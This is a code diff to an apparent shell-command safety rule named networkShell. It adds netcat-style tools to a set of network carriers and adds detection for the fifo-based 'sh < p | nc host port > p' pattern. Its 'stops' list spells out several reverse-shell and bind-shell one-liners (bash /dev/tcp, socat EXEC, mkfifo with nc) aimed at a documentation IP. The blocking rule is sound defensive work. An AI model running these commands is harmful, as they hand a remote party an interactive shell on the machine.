@@ -23,6 +23,7 @@ const SHELLS = [
   'exec',
   'eval',
 ];
+const CARRIERS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'socat', 'openssl']);
 const NETWORK = /^\/dev\/(?:tcp|udp)\//;
 const LISTENER = /^(?:TCP|UDP|SCTP|DCCP|OPENSSL|SSL|VSOCK|SOCKS|PROXY)[\w-]*:/i;
 
@@ -37,6 +38,7 @@ const networkShell: InvocationRule = {
   stops: [
     'nc -le /bin/sh 4444',
     'socat TCP-LISTEN:4444 EXEC:/bin/sh',
+    'mkfifo p; sh < p | nc 192.0.2.1 4444 > p',
     'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
     'ncat --sh-exec "cat notes.md" 192.0.2.1 80',
     'source /dev/stdin < /dev/tcp/192.0.2.1/80',
@@ -69,6 +71,10 @@ function opening(invocation: Invocation): Word | undefined {
     );
   }
   if (stdin.from === 'file' && NETWORK.test(stdin.path.value ?? '')) return stdin.path;
+  // What a shell says goes to the one who gives it its lines: `sh < pipe | nc host port > pipe`.
+  if (stdin.from === 'file' && invocation.pipedTo.some((name) => CARRIERS.has(name))) {
+    return stdin.path;
+  }
   const isCode = program !== 'exec';
   return isCode ? redirects.find(({ path }) => NETWORK.test(path.value ?? ''))?.path : undefined;
 }
